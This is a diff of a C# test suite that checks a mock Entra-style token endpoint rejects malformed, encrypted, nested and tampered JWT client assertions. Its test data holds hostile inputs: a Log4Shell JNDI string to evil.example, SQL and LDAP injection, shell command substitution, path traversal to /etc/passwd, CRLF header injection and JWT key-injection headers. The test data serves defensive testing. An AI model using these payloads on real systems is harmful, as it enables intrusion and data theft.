@@ -1,5 +1,4 @@
 using System.Net;
-using System.Net.Http.Headers;
 using System.Text;
 using System.Text.Json.Nodes;
 using Sallyport.Core.Signing;
@@ -20,11 +19,9 @@ public sealed class StrictServer : IAsyncLifetime
     public ValueTask DisposeAsync() => Server.DisposeAsync();
 }
 
-/// <summary>Attack cases at the token endpoint, by their ids in docs/security-cases.md. What a case does not change is known to pass.</summary>
+/// <summary>Attack cases at the token endpoint, by their ids in docs/security.md. What a case does not change is known to pass.</summary>
 public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictServer>
 {
-    private const string AssertionType = "urn:ietf:params:oauth:client-assertion-type:jwt-bearer";
-
     private readonly LoginServer server = strict.Server;
 
     private static CancellationToken Cancel => TestContext.Current.CancellationToken;
@@ -32,6 +29,7 @@ public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictS
     private long Now => server.Clock.GetUtcNow().ToUnixTimeSeconds();
 
     [Fact]
+    [Trait("Passes", "J9")]
     public async Task J9_T2_one_tolerance_of_a_minute_for_exp_nbf_and_iat()
     {
         foreach (var (claim, seconds, code) in ((string, long, int)[])[
@@ -48,6 +46,7 @@ public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictS
     }
 
     [Fact]
+    [Trait("Passes", "J14")]
     public async Task J14_key_sets_hold_public_members_alone()
     {
         foreach (var (host, path) in ((string, string)[])[
@@ -61,43 +60,148 @@ public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictS
     }
 
     [Fact]
-    public async Task B3_a_subject_counts_with_its_issuer_alone()
+    [Trait("Passes", "B3 T11")]
+    public async Task B3_T11_a_subject_counts_with_its_issuer_alone()
     {
-        await server.AddCredentialAsync(new { name = "elsewhere", issuer = "https://gitlab.com", subject = "s", audiences = new[] { LoginServer.Audience } });
-        Assert.Equal(700213, await server.ExchangeAsync(server.Sign(c => c["sub"] = "s")));
+        await using var other = await TestIssuer.StartAsync();
+        await using var own = await LoginServer.StartAsync(Core.Entra.Sts.RuleSet.Entra2026, other: other);
+        await own.AddCredentialAsync(new { name = "elsewhere", issuer = other.Url, subject = "s", audiences = new[] { LoginServer.Audience } });
+        Assert.Equal(0, await own.ExchangeAsync(own.Sign()));
+        Assert.Equal(0, await own.ExchangeAsync(other.Sign(Elsewhere("s"))));
+        Assert.Equal(700213, await own.ExchangeAsync(own.Sign(c => c["sub"] = "s")));
+        Assert.Equal(700213, await own.ExchangeAsync(other.Sign(Elsewhere(LoginServer.Subject))));
+
+        Dictionary<string, object?> Elsewhere(string subject) => new(own.Claims()) { ["iss"] = other.Url, ["sub"] = subject };
     }
 
     [Fact]
+    [Trait("Passes", "B5 A2")]
     public async Task B5_A2_whatever_is_not_one_compact_token_is_refused()
     {
         var good = server.Sign();
-        foreach (var bad in (string[])[$"{{\"jwt\":\"{good}\"}}", good + "," + good, good + " " + good, good + "~", "\"" + good + "\"", good + "\u200B"])
+        foreach (var bad in (string[])[$"{{\"jwt\":\"{good}\"}}", good + "," + good, good + " " + good, good + good, good + "." + good, good + "~", "\"" + good + "\"", good + "\u200B", "Bearer " + good, good + "\n", "[" + good + "]"])
             Assert.True(await server.ExchangeAsync(bad) == 50027, bad[^8..]);
+        foreach (var other in "!#$%&'()*+,/:;<=>?@[\\]^`{|}~\u00e9\t ")
+            Assert.True(await server.ExchangeAsync(good[..20] + other + good[20..]) == 50027, $"{other}");
+        Assert.Equal(0, await server.ExchangeAsync(good));
     }
 
     [Fact]
+    [Trait("Passes", "B6 J8 K7")]
     public async Task B6_J8_K7_encrypted_nested_and_JSON_tokens_are_refused()
     {
-        var part = StrictBase64Url.Encode("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}"u8);
-        foreach (var bad in (string[])[$"{part}..AAAA.AAAA.AAAA", $"{part}.AAAA.AAAA.AAAA.AAAA", """{"payload":"e30","signatures":[]}"""])
-            Assert.Equal(50027, await server.ExchangeAsync(bad));
-        foreach (var header in (string[])["\"cty\":\"JWT\"", "\"zip\":\"DEF\"", "\"enc\":\"A256GCM\""])
-            Assert.Equal(50027, await server.ExchangeAsync(server.Sign(header: $$"""{"alg":"RS256","kid":"test-key",{{header}}}""")));
+        var good = server.Sign();
+        var (header, payload, signature) = good.Split('.') is [var h, var p, var g] ? (h, p, g) : default;
+        var encrypted = new[] { "\"alg\":\"dir\"", "\"alg\":\"RSA-OAEP\"", "\"alg\":\"RSA1_5\"", "\"alg\":\"ECDH-ES\",\"epk\":{}", "\"alg\":\"A128KW\"", "\"alg\":\"PBES2-HS256+A128KW\",\"p2c\":2147483647,\"p2s\":\"AAAA\"" }
+            .Select(alg => StrictBase64Url.Encode(Encoding.UTF8.GetBytes($"{{{alg},\"enc\":\"A256GCM\",\"zip\":\"DEF\"}}")));
+        foreach (var part in encrypted)
+            foreach (var bad in (string[])[$"{part}..AAAA.AAAA.AAAA", $"{part}.AAAA.AAAA.AAAA.AAAA", $"{part}.{payload}.{signature}"])
+                Assert.True(await server.ExchangeAsync(bad) is 50027, bad);
+        foreach (var bad in (string[])[
+            $$"""{"payload":"{{payload}}","protected":"{{header}}","signature":"{{signature}}"}""", $$"""{"payload":"{{payload}}","signatures":[{"protected":"{{header}}","signature":"{{signature}}"}]}""",
+            $$"""{"protected":"{{header}}","encrypted_key":"AAAA","iv":"AAAA","ciphertext":"AAAA","tag":"AAAA"}""", $$"""{"protected":"{{header}}","recipients":[{"encrypted_key":"AAAA"}],"iv":"AAAA","ciphertext":"AAAA","tag":"AAAA"}""",
+            """{"payload":"e30","signatures":[]}"""])
+            Assert.True(await server.ExchangeAsync(bad) == 50027, bad);
+        foreach (var member in (string[])["\"cty\":\"JWT\"", "\"zip\":\"DEF\"", "\"enc\":\"A256GCM\"", "\"epk\":{}"])
+            Assert.Equal(50027, await server.ExchangeAsync(server.Sign(header: $$"""{"alg":"RS256","kid":"test-key",{{member}}}""")));
+        Assert.Equal(50027, await server.ExchangeAsync(server.Issuer.SignBytes("""{"alg":"RS256","kid":"test-key"}"""u8, Encoding.ASCII.GetBytes(good)))); // a token in a token
+        Assert.Equal(0, await server.ExchangeAsync(good));
+    }
+
+    [Fact]
+    [Trait("Passes", "J7 K2")]
+    public async Task J7_K2_a_key_in_the_token_is_neither_used_nor_fetched()
+    {
+        await using var lure = await TestIssuer.StartAsync(); // serves the stranger's key, and the server may dial it
+        await using var own = await LoginServer.StartAsync(other: lure);
+        var key = JsonNode.Parse(lure.KeySet())!["keys"]![0]!.ToJsonString();
+        foreach (var member in (string[])[
+            $"\"jku\":\"{lure.Url}/keys\"", $"\"x5u\":\"{lure.Url}/keys\"", $"\"jwk\":{key}", $"\"x5c\":[\"{Certificate(lure)}\"]", $"\"jku\":\"{lure.Url}/keys\",\"jwk\":{key},\"x5t\":\"AAAA\",\"x5t#S256\":\"AAAA\""])
+        {
+            var header = $$"""{"alg":"RS256","kid":"{{TestIssuer.KeyId}}",{{member}}}""";
+            Assert.True(await own.ExchangeAsync(lure.Sign(own.Claims(), header)) == 7000274, member);
+            Assert.True(await own.ExchangeAsync(own.Sign(header: header)) == 0, member);
+        }
+        Assert.Equal(0, lure.Connections);
+    }
+
+    [Fact]
+    [Trait("Passes", "J11")]
+    public async Task J11_texts_are_compared_code_point_for_code_point_after_JSONs_escapes_are_undone()
+    {
+        const string composed = "project_path:caf\u00e9/\U0001F680:ref_type:branch:ref:main";
+        await server.AddCredentialAsync(new { name = "composed", issuer = server.Issuer.Url, subject = composed, audiences = new[] { LoginServer.Audience } });
+        var now = Now;
+        foreach (var (subject, number) in ((string, int)[])[
+            (composed, 0), (@"project_path:caf\u00e9/\uD83D\ude80:ref_type:branch:ref:main", 0), (@"\u0070roject_path:caf\u00e9\/\ud83d\ude80:ref_type:branch:ref:main", 0),
+            ("project_path:cafe\u0301/\U0001F680:ref_type:branch:ref:main", 700213), ("project_path:caf\u00c9/\U0001F680:ref_type:branch:ref:main", 7002138), ("project_path:caf\u00e9/\U0001F680:ref_type:branch:ref:ma\u0131n", 700213),
+            ("project_path:caf\u00e9/\U0001F680:ref_type:branch:ref:main\u200b", 700213), (@"project_path:caf\u00e9/\ud83d:ref_type:branch:ref:main", 50027)])
+        {
+            var payload = $$"""{"iss":"{{server.Issuer.Url}}","sub":"{{subject}}","aud":"{{LoginServer.Audience}}","exp":{{now + 300}}}""";
+            var code = await server.ExchangeAsync(server.Issuer.SignBytes("""{"alg":"RS256","kid":"test-key"}"""u8, Encoding.UTF8.GetBytes(payload)));
+            Assert.True(code == number, $"{subject}: {code}");
+        }
     }
 
     [Theory]
+    [Trait("Passes", "B7 K8")]
+    [InlineData("../../../../dev/null")]
+    [InlineData("/proc/self/environ")]
+    [InlineData("file:///etc/passwd")]
+    [InlineData("' OR 1=1 --")]
+    [InlineData("' UNION SELECT 1, 2 --")]
+    [InlineData("'; DROP TABLE applications; --")]
+    [InlineData("*)(uid=*))(|(uid=*")]
+    [InlineData("$(touch /tmp/x)")]
+    [InlineData("`id`")]
+    [InlineData("${jndi:ldap://evil.example/x}")]
+    [InlineData("{0}{Code}%n%s")]
+    [InlineData("a\0b")]
+    [InlineData("a\r\nHost: evil.example\r\n\r\n")]
+    [InlineData("\u001b[31m\u2028\u202e")]
+    public async Task B7_K8_hostile_text_in_a_claim_or_a_kid_is_text(string hostile)
+    {
+        foreach (var (claim, number) in ((string, int)[])[("iss", 700211), ("sub", 700213), ("aud", 700212), ("jti", 0), ("free", 0)])
+            Assert.True(number == await server.ExchangeAsync(server.Sign(c => c[claim] = hostile)), claim);
+        Assert.Equal(700027, await server.ExchangeAsync(server.Sign(header: new JsonObject { ["alg"] = "RS256", ["kid"] = hostile }.ToJsonString())));
+        Assert.Equal(700016, await server.ExchangeAsync(server.Sign(), hostile.Replace("\0", "", StringComparison.Ordinal)));
+        Assert.Equal(0, await server.ExchangeAsync(server.Sign()));
+    }
+
+    // An assertion's missing claim is no "invalid_client" in Microsoft Entra, but AADSTS90014 and "invalid_request".
+    [Theory]
+    [Trait("Passes", "A3 A5")]
     [InlineData("iss")]
     [InlineData("sub")]
     [InlineData("aud")]
     [InlineData("exp")]
     public async Task A3_A5_each_required_claim_is_required(string claim)
     {
-        foreach (var value in (object?[])[null, "", 7, true, new { }])
-            Assert.NotEqual(0, await server.ExchangeAsync(server.Sign(c => c[claim] = value)));
-        Assert.Equal(90014, await server.ExchangeAsync(server.Sign(c => c.Remove(claim))));
+        var texts = claim != "exp";
+        (object? Value, int Number)[] cases =
+            [(null, texts ? 90014 : 50027), ("", texts ? 90014 : 50027), (true, 50027), (new { }, 50027), (new object[] { 7 }, 50027), (new object?[] { null }, 50027), (1.5, 50027), (7, texts ? 50027 : 700024)];
+        foreach (var (value, number) in cases)
+        {
+            var (code, error) = await RefusalAsync(server.Sign(c => c[claim] = value));
+            Assert.True((code, error) == (number, number == 700024 ? "invalid_client" : "invalid_request"), $"{value}: {code} {error}");
+        }
+        Assert.Equal((90014, "invalid_request"), await RefusalAsync(server.Sign(c => c.Remove(claim))));
+        Assert.Equal(0, await server.ExchangeAsync(server.Sign()));
     }
 
     [Fact]
+    [Trait("Passes", "A5")]
+    public async Task A5_an_invalid_signature_is_an_invalid_client()
+    {
+        using var stranger = System.Security.Cryptography.RSA.Create(2048);
+        Assert.Equal((7000274, "invalid_client"), await RefusalAsync(server.Issuer.Sign(server.Claims(), with: stranger)));
+        Assert.Equal((7000274, "invalid_client"), await RefusalAsync(server.Sign()[..^8] + "AAAAAAAA"));
+        Assert.Equal((700027, "invalid_client"), await RefusalAsync(server.Sign(header: """{"alg":"RS256","kid":"other"}""")));
+        Assert.Equal(0, await server.ExchangeAsync(server.Sign()));
+    }
+
+    [Fact]
+    [Trait("Passes", "A6")]
     public async Task A6_a_lifetime_of_a_day_is_the_longest()
     {
         Assert.Equal(0, await server.ExchangeAsync(server.Sign(c => c["exp"] = Now + 86_400)));
@@ -106,6 +210,7 @@ public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictS
     }
 
     [Fact]
+    [Trait("Passes", "A8")]
     public async Task A8_nothing_in_an_issuers_discovery_document_becomes_an_audience()
     {
         await using var own = await LoginServer.StartAsync(Core.Entra.Sts.RuleSet.Entra2026);
@@ -119,34 +224,6 @@ public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictS
             Assert.Equal(700212, await own.ExchangeAsync(own.Sign(c => c["aud"] = audience)));
     }
 
-    [Fact]
-    public async Task T10_a_disabled_client_is_refused_at_each_token_endpoint_with_each_proof()
-    {
-        await using var own = await LoginServer.StartAsync();
-        var secret = (string)(await own.GraphAsync(HttpMethod.Post, $"/v1.0/applications/{own.ObjectId}/addPassword", new { passwordCredential = new { displayName = "x" } }))["secretText"]!;
-        var paths = own.Running.Server.Endpoints.OfType<Microsoft.AspNetCore.Routing.RouteEndpoint>().Select(e => e.RoutePattern.RawText!)
-            .Where(p => p.EndsWith("/token", StringComparison.Ordinal) && p.StartsWith("/{tenant}", StringComparison.Ordinal)).Distinct().ToList();
-        Assert.Equal(["/{tenant}/oauth2/token", "/{tenant}/oauth2/v2.0/token"], paths.Order(StringComparer.Ordinal));
-        foreach (var (enabled, number) in ((bool, int)[])[(true, 0), (false, 7000112), (true, 0)])
-        {
-            await own.GraphAsync(HttpMethod.Patch, $"/v1.0/servicePrincipals(appId='{own.AppId}')", new { accountEnabled = enabled });
-            foreach (var path in paths)
-                foreach (var proof in (Dictionary<string, string>[])[new() { ["client_secret"] = secret }, new() { ["client_assertion_type"] = AssertionType, ["client_assertion"] = own.Sign() }])
-                    Assert.Equal(number, await AskAsync(own, path, proof));
-        }
-    }
-
-    private static async Task<int> AskAsync(LoginServer own, string path, Dictionary<string, string> proof)
-    {
-        using var login = own.Running.For("login.microsoftonline.com");
-        using var form = new FormUrlEncodedContent(new Dictionary<string, string>(proof)
-        {
-            ["grant_type"] = "client_credentials", ["client_id"] = own.AppId, ["scope"] = LoginServer.Arm + "/.default", ["resource"] = LoginServer.Arm,
-        });
-        using var answer = await login.PostAsync(path.Replace("{tenant}", own.Running.Facts.TenantId.ToString(), StringComparison.Ordinal), form, Cancel);
-        return answer.IsSuccessStatusCode ? 0 : await NumberAsync(answer);
-    }
-
     [Theory]
     [InlineData("JWT", 0)]
     [InlineData("jwt", 0)]
@@ -154,68 +231,9 @@ public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictS
     [InlineData("at+jwt", 5002727)]
     [InlineData("dpop+jwt", 5002727)]
     [InlineData("logout+jwt", 5002727)]
+    [Trait("Passes", "A9")]
     public async Task A9_the_type_is_absent_or_one_of_assertions(string type, int code) =>
         Assert.Equal(code, await server.ExchangeAsync(server.Sign(header: $$"""{"alg":"RS256","kid":"test-key","typ":"{{type}}"}""")));
-
-    [Fact]
-    public async Task O1_credentials_in_the_query_are_not_read()
-    {
-        using var login = server.Running.For("login.microsoftonline.com");
-        var path = $"/{server.Running.Facts.TenantId}/oauth2/v2.0/token?client_id={server.AppId}&grant_type=client_credentials&client_assertion_type={AssertionType}&scope={LoginServer.Arm}/.default&client_assertion={server.Sign()}";
-        using var get = await login.GetAsync(path, Cancel);
-        Assert.Equal((HttpStatusCode.BadRequest, 900561), (get.StatusCode, await NumberAsync(get)));
-        using var empty = new FormUrlEncodedContent([]);
-        using var post = await login.PostAsync(path, empty, Cancel);
-        Assert.Equal(900144, await NumberAsync(post));
-    }
-
-    [Fact]
-    public async Task O4_no_answer_is_stored_or_redirects_or_sets_a_cookie()
-    {
-        foreach (var assertion in (string[])[server.Sign(), "x", server.Sign(c => c["sub"] = "x")])
-        {
-            using var answer = await server.PostAsync(assertion);
-            Assert.True(answer.Headers.CacheControl!.NoStore);
-            Assert.Equal("no-cache", answer.Headers.Pragma.ToString());
-            Assert.Null(answer.Headers.Location);
-            Assert.False(answer.Headers.Contains("Set-Cookie"));
-            Assert.Equal("application/json", answer.Content.Headers.ContentType!.MediaType);
-        }
-    }
-
-    [Fact]
-    public async Task O5_what_an_attacker_wrote_is_printable_in_the_description()
-    {
-        using var answer = await server.PostAsync(server.Sign(c => c["sub"] = "a\"b\\c\r\nd\u001b[31me\u202ef\u00e9"));
-        var description = (string)JsonNode.Parse(await answer.Content.ReadAsStringAsync(Cancel))!["error_description"]!;
-        Assert.Contains("'a?b?c??d?[31me?f?'", description, StringComparison.Ordinal);
-        Assert.All(description, c => Assert.InRange(c, ' ', '~'));
-    }
-
-    [Fact]
-    public async Task O6_a_wrong_Basic_credential_is_answered_with_a_challenge()
-    {
-        using var login = server.Running.For("login.microsoftonline.com");
-        login.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Basic", Convert.ToBase64String(Encoding.ASCII.GetBytes($"{server.AppId}:wrong")));
-        using var form = new FormUrlEncodedContent(new Dictionary<string, string> { ["grant_type"] = "client_credentials", ["scope"] = LoginServer.Arm + "/.default" });
-        using var answer = await login.PostAsync($"/{server.Running.Facts.TenantId}/oauth2/v2.0/token", form, Cancel);
-        Assert.Equal((HttpStatusCode.Unauthorized, "Basic realm=\"login.microsoftonline.com\""), (answer.StatusCode, answer.Headers.WwwAuthenticate.ToString()));
-    }
-
-    [Theory]
-    [InlineData("", "x", 900144)]
-    [InlineData("{id}", "", 7000216)]
-    [InlineData("{id}", "{secret}", 0)]
-    public async Task O2_an_empty_half_of_a_Basic_credential_is_absent(string id, string secret, int number)
-    {
-        var facts = server.Running.Facts;
-        var text = $"{id}:{secret}".Replace("{id}", $"{facts.OwnerClientId}", StringComparison.Ordinal).Replace("{secret}", facts.OwnerClientSecret, StringComparison.Ordinal);
-        using var login = server.Running.For("login.microsoftonline.com");
-        login.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Basic", Convert.ToBase64String(Encoding.ASCII.GetBytes(text)));
-        using var form = new FormUrlEncodedContent(new Dictionary<string, string> { ["grant_type"] = "client_credentials", ["scope"] = LoginServer.Arm + "/.default" });
-        using var answer = await login.PostAsync($"/{facts.TenantId}/oauth2/v2.0/token", form, Cancel);
-        Assert.Equal(number, answer.IsSuccessStatusCode ? 0 : await NumberAsync(answer));
-    }
 
     [Theory]
     [InlineData("{0}", 0)]
@@ -223,10 +241,12 @@ public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictS
     [InlineData("{0}\n", 700016)]
     [InlineData("\u2003{0}\u00a0", 700016)]
     [InlineData("{{{0}}}", 700016)]
+    [Trait("Passes", "A4")]
     public async Task A4_a_client_id_is_the_id_and_nothing_around_it(string form, int number) =>
         Assert.Equal(number, await server.ExchangeAsync(server.Sign(), string.Format(System.Globalization.CultureInfo.InvariantCulture, form, server.AppId)));
 
     [Fact]
+    [Trait("Passes", "A4")]
     public async Task A4_a_tenant_is_its_id_and_nothing_around_it()
     {
         using var login = server.Running.For("login.microsoftonline.com");
@@ -238,64 +258,8 @@ public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictS
         }
     }
 
-    [Theory]
-    [InlineData("password")]
-    [InlineData("refresh_token")]
-    [InlineData("authorization_code")]
-    [InlineData("urn:ietf:params:oauth:grant-type:token-exchange")]
-    [InlineData("urn:ietf:params:oauth:grant-type:jwt-bearer")]
-    [InlineData("CLIENT_CREDENTIALS")]
-    public async Task O7_other_grants_are_not_offered(string grant)
-    {
-        using var answer = await server.Running.PostTokenAsync(
-            ("grant_type", grant), ("client_id", server.AppId), ("scope", LoginServer.Arm + "/.default"), ("client_assertion_type", AssertionType), ("client_assertion", server.Sign()));
-        var body = JsonNode.Parse(await answer.Content.ReadAsStringAsync(Cancel))!;
-        Assert.Equal((70003, "unsupported_grant_type"), ((int)body["error_codes"]![0]!, (string?)body["error"]));
-    }
-
     [Fact]
-    public async Task O9_D4_forwarded_headers_change_nothing_in_discovery()
-    {
-        using var login = server.Running.For("login.microsoftonline.com");
-        var path = $"/{server.Running.Facts.TenantId}/v2.0/.well-known/openid-configuration";
-        var plain = await login.GetStringAsync(path, Cancel);
-        foreach (var (name, value) in ((string, string)[])[("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "http"), ("Forwarded", "host=evil.example"), ("X-Original-URL", "/x")])
-            login.DefaultRequestHeaders.Add(name, value);
-        Assert.Equal(plain, await login.GetStringAsync(path, Cancel));
-        var document = JsonNode.Parse(plain)!;
-        Assert.Equal($"https://login.microsoftonline.com/{server.Running.Facts.TenantId}/v2.0", (string?)document["issuer"]);
-        using var keys = await login.GetAsync((string)document["jwks_uri"]!, Cancel);
-        Assert.Equal(HttpStatusCode.OK, keys.StatusCode);
-    }
-
-    [Fact]
-    public async Task E4_the_tutorials_three_codes_come_for_its_three_faults()
-    {
-        await using var own = await LoginServer.StartAsync(Core.Entra.Sts.RuleSet.Entra2026);
-        Assert.Equal(0, await own.ExchangeAsync(own.Sign()));
-        Assert.Equal(700213, await own.ExchangeAsync(own.Sign(c => c["sub"] = "project_path:other/project:ref_type:branch:ref:main")));
-        Assert.Equal(700212, await own.ExchangeAsync(own.Sign(c => c["aud"] = "https://gitlab.com")));
-        own.Issuer.DiscoveryFault = _ => Microsoft.AspNetCore.Http.Results.StatusCode(503);
-        own.Clock.Advance(TimeSpan.FromHours(25));
-        Assert.Equal(501661, await own.ExchangeAsync(own.Sign()));
-    }
-
-    [Theory]
-    [InlineData("https://gitlab.example.com/../x")]
-    [InlineData("https://evil@localhost")]
-    [InlineData("https://localhost%2f.evil.example")]
-    [InlineData("https://localhost\r\nHost: x")]
-    [InlineData("https://localhost\0")]
-    [InlineData("file:///etc/passwd")]
-    [InlineData("' OR 1=1 --")]
-    public async Task F5_B7_a_hostile_issuer_matches_nothing_and_is_not_asked(string issuer)
-    {
-        var before = server.Issuer.Requests;
-        Assert.Equal(700211, await server.ExchangeAsync(server.Sign(c => c["iss"] = issuer)));
-        Assert.Equal(before, server.Issuer.Requests);
-    }
-
-    [Fact]
+    [Trait("Passes", "F8")]
     public async Task F8_tokens_of_dots_and_long_headers_are_refused_unread()
     {
         foreach (var bad in (string[])[new string('.', 60_000), new string('A', 60_000), server.Sign(header: $$"""{"alg":"RS256","kid":"{{new string('k', 50_000)}}"}""")])
@@ -303,10 +267,24 @@ public sealed class AttackCaseTests(StrictServer strict) : IClassFixture<StrictS
             using var answer = await server.PostAsync(bad);
             Assert.InRange((int)answer.StatusCode, 400, 413);
         }
-        using var large = await server.PostAsync(new string('.', 1_000_000));
-        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, large.StatusCode);
+        foreach (var large in (string[])[new string('.', 1_000_000), server.Sign(header: $$"""{"alg":"RS256","kid":"{{new string('k', 1_000_000)}}"}""")])
+        {
+            using var answer = await server.PostAsync(large);
+            Assert.Equal(HttpStatusCode.RequestEntityTooLarge, answer.StatusCode);
+        }
+        Assert.Equal(0, await server.ExchangeAsync(server.Sign(c => c["free"] = new string('x', 30_000))));
     }
 
-    private static async Task<int> NumberAsync(HttpResponseMessage response) =>
-        (int)JsonNode.Parse(await response.Content.ReadAsStringAsync(Cancel))!["error_codes"]![0]!;
+    private static string Certificate(TestIssuer of)
+    {
+        using var certificate = System.Security.Cryptography.X509Certificates.X509CertificateLoader.LoadCertificateFromFile(of.CaFile);
+        return Convert.ToBase64String(certificate.RawData);
+    }
+
+    private async Task<(int Number, string? Error)> RefusalAsync(string assertion)
+    {
+        using var response = await server.PostAsync(assertion);
+        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync(Cancel))!;
+        return response.IsSuccessStatusCode ? (0, null) : ((int)body["error_codes"]![0]!, (string?)body["error"]);
+    }
 }
